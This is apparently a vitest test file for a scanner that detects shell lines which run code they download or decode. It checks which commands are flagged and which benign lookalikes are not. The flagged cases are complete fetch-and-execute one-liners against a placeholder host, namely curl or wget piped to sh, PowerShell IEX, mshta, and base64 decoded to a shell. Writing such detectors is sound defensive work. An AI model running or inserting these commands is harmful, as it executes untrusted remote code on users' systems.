/** Lines that run what they fetch or decode, and lines that only look like them. */
import { expect, test } from 'vitest';
import { parseConfig } from '../../../../server/detect/settings/parse/index.ts';
import {
  runsDecoded,
  runsDownload,
  runsEarlierDownload,
} from '../../../../server/detect/settings/conditions/downloads.ts';

test.each([
  'curl -fsSL https://x.example/i.sh | sh',
  'curl -s "https://x.example/i.sh?a=1&b=2" | sudo -E bash -s -- --yes',
  'wget -qO- https://x.example | tee /tmp/l | bash',
  "exec('curl https://x.example | sh')",
  'curl https://x.example | python3 -',
  'curl https://x.example/a | gunzip | sh',
  'bash -c "$(curl -fsSL https://x.example)"',
  'eval "$(wget -qO- https://x.example)"',
  'bash <(curl -s https://x.example)',
  'source <(curl -s https://x.example)',
  'eval `curl -s https://x.example`',
  'wget -O /tmp/x http://x.example/x && sh /tmp/x',
  'curl -o x.py https://x.example/x.py; python3 x.py',
  'wget https://x.example/run.sh && chmod +x run.sh && ./run.sh',
  'curl -LO https://x.example/tool; sudo bash tool',
  'curl https://x.example > t.sh && bash t.sh',
  'powershell -c "iwr https://x.example/a.ps1 | iex"',
  "powershell IEX(New-Object Net.WebClient).DownloadString('https://x.example')",
  'mshta https://x.example/a.hta',
])('%s runs what it fetches', line => {
  expect(runsDownload(line)).toBe(true);
});

test.each([
  'node scripts/fetch-apache && node scripts/fetch-iana',
  'npx esbuild index-fetch.js --outfile=x.js && node scripts/strip.js',
  'curl -s https://x.example/api | jq .name',
  'curl -s https://x.example/api | python3 -m json.tool',
  'curl -s https://x.example/api | python3 -c "import json,sys; print(json.load(sys.stdin))"',
  "curl -s https://x.example/api | node -e 'process.stdin.pipe(process.stdout)'",
  'VERSION=$(curl -s https://x.example/latest)',
  'curl -o data.json https://x.example/data.json && node build.js',
  'wget https://x.example/a.tar.gz && tar xf a.tar.gz && ./configure',
  'echo "see https://x.example" | sh -n script.sh',
])('%s does not', line => {
  expect(runsDownload(line)).toBe(false);
});

test.each(['echo aGk= | base64 -d | sh', 'xxd -r -p x | bash', 'bash -c "$(echo aGk= | base64 -d)"'])(
  '%s runs what it decodes',
  line => {
    expect(runsDecoded(line)).toBe(true);
  },
);

test.each(['echo "$KEY" | base64 -d > key.pem', 'base64 -d x | gunzip'])('%s only decodes', line => {
  expect(runsDecoded(line)).toBe(false);
});

test('a script is followed over its lines', () => {
  const { root } = parseConfig(
    'curl -so /tmp/p https://x.example/p\nchmod +x /tmp/p\n',
    'script',
    'x',
  ).document;
  expect(runsEarlierDownload('/tmp/p &', root)).toBe(true);
  expect(runsEarlierDownload('sudo sh /tmp/p', root)).toBe(true);
  expect(runsEarlierDownload('./build/q', root)).toBe(false);
});
